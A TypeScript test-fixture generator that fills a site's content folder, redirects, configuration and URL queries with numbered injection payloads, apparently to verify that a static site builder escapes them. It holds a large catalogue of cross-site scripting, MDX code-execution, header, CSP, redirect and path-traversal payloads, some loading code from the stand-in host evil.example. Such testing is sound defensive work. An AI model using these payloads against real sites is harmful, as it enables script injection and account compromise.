/**
 * A content folder where every text would run, load or redirect something if it were taken for more than text. Each input has a number that
 * it reports when it runs, or requests in its own URL when it loads.
 */

/** The only host that texts in this folder may show images and videos from. */
export const imageHost = 'https://images.example'

type Payload = (run: string, load: string) => string

/** `run` is code that reports the input, `load` a URL that does. They fit into one line of eighty characters, as some fields require. */
const payloads: readonly Payload[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `]]><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `" onfocus=${run} autofocus x="`,
  (run) => `' onmouseover=${run} '`,
  (run) => `<a href="javascript:${run}">a</a>`,
  (run) => `<a href=" java&#10;script:${run}">a</a>`,
  (run) => `javascript:${run}`,
  (run) => `[a](javascript:${run})`,
  (run) => `![a](javascript:${run})`,
  (run) => `<javascript:${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_, load) => `<iframe src="${load}"></iframe>`,
  (_, load) => `<object data="${load}"></object>`,
  (_, load) => `<embed src="${load}">`,
  (_, load) => `<link rel=stylesheet href="${load}">`,
  (_, load) => `<style>@import "${load}";</style>`,
  (_, load) => `<p style="background:url(${load})">a</p>`,
  (_, load) => `<base href="${load}/">`,
  (_, load) => `<meta http-equiv=refresh content="0;url=${load}">`,
  (_, load) => `<form action="${load}"><button autofocus>a</button></form>`,
  (run) => `<form><button formaction=javascript:${run}>a</button></form>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}><summary>a</summary></details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<body onload=${run}>`,
  (run) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></math>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\u003cscript\u003e${run}`,
  (run) => `<scr<script>ipt>${run}</script>`,
  (run) => `\${${run}}{{${run}}}#{${run}}<%= ${run} %>`,
  (run) => `%%title%%%%page%%<img src=x onerror=${run}>`,
  (run) => `\ufdd0"><img src=x onerror=${run}>`,
  (_, load) => `a\r\nLocation: ${load}\r\n\r\n`,
  (_, load) => `a\n/* ${load} 301`,
  (_, load) => `; script-src ${load} 'unsafe-inline'; sandbox`,
]

/** Ways to put a payload into Markdown. */
const writers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Text ${payload} text`,
  (payload) => `## A ${payload}`,
  (payload) => `| a |\n| --- |\n| ${payload.replaceAll('|', '')} |`,
  (payload) => `- [ ] ${payload}`,
  (payload) => `> [!NOTE]\n> ${payload}`,
  (payload) => `[a](https://example.com "${payload.replaceAll('"', '&quot;')}")`,
  (payload) => `[a](<${payload.replace(/[<>\r\n]/g, '')}>)`,
  (payload) => `![${payload.replace(/[[\]\r\n]/g, '')}](${imageHost}/a.png)`,
  (payload) => `![a](<${payload.replace(/[<>\r\n]/g, '')}>)`,
  (payload) => `<p title='${payload}'>a</p>`,
  (payload) => `\`\`\`js title="${payload.replace(/["`\r\n]/g, '')}"\n${payload}\n\`\`\``,
  (payload) => `\`\`\`mermaid\nflowchart LR\n  a["${payload.replace(/["\r\n]/g, "'")}"] --> b\n  click a "javascript:0"\n\`\`\``,
]

/** MDX pages, one payload each, because an error affects the whole page. */
const pagesInMdx: readonly Payload[] = [
  (run) => `<a href="javascript:${run}">a</a>`,
  (run) => `<a href={"javascript:${run}"}>a</a>`,
  (run) => `<a href={\`javascript:${run}\`}>a</a>`,
  (run) => `<a {...{href: "javascript:${run}"}}>a</a>`,
  (run) => `<img src="x" onError={"${run}"} />`,
  (run) => `<img src="x" onerror="${run}" />`,
  (run) => `<img src="x" ONERROR="${run}" alt="a" />`,
  (run) => `<div dangerouslySetInnerHTML={{"__html":"<img src=x onerror=${run}>"}} />`,
  (run) => `<div set:html="<img src=x onerror=${run}>" />`,
  (run) => `<script>{"${run}"}</script>`,
  (run) => `<script is:inline>${run}</script>`,
  (run) => `<style>{"a"}</style><b>${run}</b>`,
  (run) => `{${run}}`,
  (run) => `{(() => ${run})()}`,
  (run) => `export const a = ${run}`,
  (_, load) => `import a from "${load}"\n\n{a}`,
  (_, load) => `<link rel="stylesheet" href="${load}" />`,
  (_, load) => `<iframe src="${load}" />`,
  (run) => `<Callout title={"\\"><script>${run}</script>"}>a</Callout>`,
  (run) => `<Callout title="'><img src=x onerror=${run}>">a</Callout>`,
  (run) => `<Callout type={"note\\" onfocus=${run} tabindex=0 x=\\""}>a</Callout>`,
  (run) => `<Figure src="javascript:${run}" alt="a" />`,
  (run) => `<Figure src="${imageHost}/a.png" alt={"\\" onerror=${run} x=\\""} caption="<script>${run}</script>" />`,
  (run) => `<Figure src="x&quot; onerror=${run}" alt="a" />`,
  (run) => `<Video src="javascript:${run}" alt="a" />`,
  () => `<Video src="${imageHost}/a.mp4" poster="${imageHost}/a.png" alt="a" />`,
  (run) => `<Tabs><Tab title="<img src=x onerror=${run}>">a</Tab><Tab title="b">b</Tab></Tabs>`,
  (run) => `<Details title="<img src=x onerror=${run}>">a</Details>`,
  (run) => `<Ref to="handbook/p0">{"<img src=x onerror=${run}>"}</Ref>`,
  (run) => `<Ref to="javascript:${run}" />`,
  (run) => `<Term id="<img src=x onerror=${run}>" />`,
  (run) => `<Person id="ada\\" onfocus=${run}" />`,
  (run) => `<${'object'} data="javascript:${run}" />`,
  (run) => `<Astro.self onload="${run}" />`,
  (run) => `<Component is:raw>{<script>${run}</script>}</Component>`,
  (run) => `<svg><a href="javascript:${run}"><text>a</text></a></svg>`,
  (run) => `[a]: javascript:${run}\n\n[a] ![a]`,
  (run) => `[^a]\n\n[^a]: <img src="x" onerror="${run}" />`,
]

/** Image and redirect URLs that try to write into a host's configuration files. */
const hostileHosts = [
  ...[
    'https://x;sandbox',
    'https://*',
    'https://*.example',
    "https://x'self'",
    'https://x,y',
    'https://a%3bsandbox',
    'https://user:pw@h.example',
  ],
  ...[
    'https://a..b',
    'https://[::1]',
    'https://a_b.example',
    "https://'unsafe-inline'",
    'https://x"y',
    'http://x;script-src',
    '//x;sandbox',
    'https:/\\x;sandbox',
  ],
]
const hostileAddresses = [
  ...[
    'https://evil.example\n/* https://evil.example/:splat 301',
    'https://evil.example\r/* /a 301',
    'https://evil.example /* 301!',
    '//evil.example/',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html,<script>1</script>',
    'https://user:pw@evil.example/',
    '/\\evil.example/',
    '/a/#b\n/* /c 301',
    '/%0a/',
  ],
  ...[
    '/*',
    '/:a/:b/',
    '/:splat',
    '/a/*/',
    '/a\0b/',
    '/%00/',
    '/../x/',
    '/%2e%2e/x/',
    '/a b/',
    '/a\tb/',
    '/\u2028/',
    `/${'a'.repeat(300)}/`,
  ],
]

export interface Injections {
  /** Files of a content folder by path. */
  files: Record<string, string>
  /** Texts for the configuration. */
  config: Record<'title' | 'organisation' | 'description', string>
  /** For page URLs, after `?q=`, `?from=` or `#`. */
  queries: string[]
  count: number
}

export function injections(): Injections {
  let count = 0
  const number = (payload: Payload) => {
    count += 1
    return payload(`__ran(${count})`, `https://evil.example/${count}`)
  }
  let turn = 0
  /** The next payload; each field gets many of them over time. */
  const text = () => number(payloads[turn++ % payloads.length] ?? (() => ''))
  const line = () => text().replace(/[\r\n]+/g, ' ')
  const yaml = (data: object) => JSON.stringify(data, null, 1)
  const page = (data: object, body = '') => `---\n${yaml(data)}\n---\n\n${body}\n`
  const files: Record<string, string> = {}

  // Bodies: a page per way of writing. Payloads that swallow the rest of their page are last on it.
  writers.forEach((write, place) => {
    const inputs = payloads.map((payload) => write(number(payload)))
    files[`handbook/p${place}.md`] = page({ title: `Place ${place}` }, inputs.join('\n\n'))
  })
  pagesInMdx.forEach((payload, index) => {
    files[`handbook/m${index}.mdx`] = page({ title: `MDX ${index}` }, number(payload))
  })
  files['handbook/hosts.md'] = page(
    { title: 'Hosts' },
    [
      `![a](${imageHost}/a.png)`,
      ...hostileHosts.map((host) => number(() => `![a](<${host}/a.png>)\n\n<img src='${host.replaceAll("'", '&#39;')}/b.png'>`)),
    ].join('\n\n'),
  )
  files['redirects.yaml'] = yaml([
    { from: '/sound/', to: '/handbook/p0/' },
    ...hostileAddresses.flatMap((address, index) => [
      { from: `/from-${index}/`, to: number(() => address) },
      { from: number(() => address), to: '/handbook/p0/' },
    ]),
  ])
  for (const [index, name] of [
    '"><img src=x onerror=__ran(0)>',
    "';__ran(0)",
    '<script>',
    '%3Cscript%3E',
    '#{__ran(0)}',
    'a\nb',
  ].entries()) {
    files[`handbook/${name.replaceAll('/', '')}.md`] = number(() => `# ${name.replaceAll('\n', ' ')}`)
    files[`handbook/f${index} ${name.replaceAll('/', '')}.txt`] = number(() => name)
  }
  files['handbook/names.md'] = page(
    { title: 'Names' },
    Object.keys(files)
      .filter((name) => name.endsWith('.txt'))
      .map((name) => `[a](<./${encodeURIComponent(name.slice(9))}>)`)
      .join('\n\n'),
  )

  // Values of every collection.
  for (let round = 0; round < 6; round++) Object.assign(files, makeValues(round, text, line, page))
  files['people.yaml'] = yaml([
    { id: 'ada', name: line(), active: true, url: 'https://example.com/' },
    ...Array.from({ length: 12 }, (_, index) => ({ id: `p${index}`, name: text(), active: true, url: number(payloads[13] ?? (() => '')) })),
  ])
  files['offerings.yaml'] = yaml([
    { id: 'cloud', title: line(), delivery: 'continuous' },
    { id: 'hosted', title: text(), delivery: 'versioned' },
  ])
  files['areas.yaml'] = yaml(Array.from({ length: 6 }, (_, index) => ({ id: `a${index}`, title: text(), pillar: text(), owner: 'ada' })))
  files['tiers.yaml'] = yaml(
    Array.from({ length: 6 }, (_, index) => ({
      id: `t${index}`,
      names: [{ from: '2026-01-01', label: text() }],
      rank: index,
      offerings: ['cloud', 'hosted'],
      introduced: '2026-01-01',
    })),
  )
  files['glossary.yaml'] = yaml(
    Array.from({ length: 24 }, (_, index) => ({ id: `g${index}`, term: text(), aliases: [text()], definition: text() })),
  )
  const config = { title: line(), organisation: line(), description: line() }
  const queries = payloads.map((payload) => encodeURIComponent(number(payload)))
  return { files, config, queries, count }
}

type Text = () => string

function makeValues(round: number, text: Text, line: Text, page: (data: object, body?: string) => string): Record<string, string> {
  const short = () => line().slice(0, 80)
  const yaml = (data: object) => JSON.stringify(data, null, 1)
  return {
    [`handbook/v${round}.md`]: page({ title: text(), description: text(), navTitle: text(), navGroup: text(), formerly: [text()] }, text()),
    [`roles/r${round}.md`]: page(
      {
        title: text(),
        description: text(),
        family: text(),
        level: text(),
        mission: text(),
        responsibilities: [{ text: text() }],
        notResponsible: [{ text: text(), see: 'r0' }],
        skills: [text()],
        hiringSteps: [text()],
      },
      text(),
    ),
    [`strategy/s${round}.md`]: page(
      {
        title: text(),
        scope: 'product',
        status: 'archived',
        owner: 'ada',
        approvers: ['ada'],
        effective: '2026-01-01',
        pillars: [{ id: `i${round}`, title: text() }],
        changes: [{ on: '2026-02-01', note: text() }],
      },
      text(),
    ),
    [`objectives/o${round}.yaml`]: yaml({
      title: text(),
      strategy: 's0',
      owner: 'ada',
      period: { from: '2026-01-01', to: '2026-12-31' },
      status: 'met',
      measures: [
        {
          id: 'm',
          name: text(),
          unit: text(),
          direction: 'up',
          baseline: 1,
          target: 3,
          readings: [{ on: '2026-03-01', value: 2 }],
          source: text(),
        },
      ],
    }),
    [`insights/i${round}.yaml`]: yaml({
      on: '2026-02-01',
      source: 'support',
      customer: { ref: text(), segment: text() },
      rung: 2,
      statement: text(),
      link: text(),
      supports: [`roadmap/x${round}`],
      recordedBy: 'ada',
    }),
    [`roadmap/x${round}.md`]: page(
      {
        title: text(),
        horizon: 'next',
        status: 'dropped',
        area: `a${round}`,
        objectives: ['o0'],
        bet: { hypothesis: text(), killCriteria: text(), decideBy: '2027-01-01' },
        reason: text(),
        history: [{ on: '2026-02-01', change: text(), reason: text() }],
      },
      text(),
    ),
    [`backlog/b${round}.md`]: page(
      { title: text(), kind: 'bug', opened: '2026-02-01', reporter: text(), area: 'a0', status: 'new', url: text() },
      text(),
    ),
    [`milestones/m${round}.md`]: page(
      {
        title: text(),
        dri: 'ada',
        start: '2026-01-01',
        due: '2026-03-01',
        status: 'closed',
        goals: [{ text: text(), objective: 'o0' }],
        scope: [{ item: `x${round}`, commitment: 'stretch', announce: { no: text() }, outcome: 'dropped', reason: text() }],
      },
      text(),
    ),
    [`decisions/000${round}-d.md`]: page(
      { title: text(), status: 'proposed', on: '2026-02-01', deciders: ['ada'], affects: ['people/ada'] },
      `## Decision\n\n${text()}`,
    ),
    [`openings/o${round}.md`]: page(
      {
        title: text(),
        role: 'r0',
        status: 'open',
        posted: '2026-02-01',
        validThrough: '2027-01-01T00:00:00Z',
        employment: text(),
        location: text(),
        remote: { countries: [text()] },
        applyUrl: text(),
      },
      text(),
    ),
    [`features/f${round}.md`]: page(
      {
        title: text(),
        summary: text(),
        area: `a${round}`,
        docs: text(),
        lifecycle: [{ stage: 'ga', since: '2026-02-01' }],
        availability: [{ tier: `t${round}`, offering: 'cloud', since: '2026-02-01', note: text(), limit: { value: 3, unit: text() } }],
      },
      text(),
    ),
    [`releases/1.${round}.md`]: page(
      {
        title: text(),
        date: '2026-02-01',
        status: 'yanked',
        offering: 'hosted',
        headline: text(),
        reason: text(),
        contributors: [text()],
        knownIssues: [{ text: text(), url: text() }],
      },
      text(),
    ),
    [`changelog/c${round}.md`]: page(
      {
        title: short(),
        description: text(),
        uid: text(),
        type: 'security',
        features: [`f${round}`],
        date: '2026-02-01',
        status: 'published',
        authors: ['ada'],
        reviews: [{ by: 'p0', on: '2026-02-01', verdict: 'approve' }],
        revisions: [{ on: '2026-02-02', note: text() }],
        breaking: { kind: 'api', impact: text(), action: text(), automated: false },
        deprecation: { removal: '1.1', announced: '1.0', replacement: text() },
        security: { ids: [text()], severity: 'low', affected: text(), fixedIn: ['1.1'], credit: text() },
        media: [
          { src: `${imageHost}/a.png`, alt: text(), caption: text(), kind: 'image' },
          { src: text(), alt: text(), kind: 'video' },
        ],
        issues: [text()],
      },
      text(),
    ),
  }
}
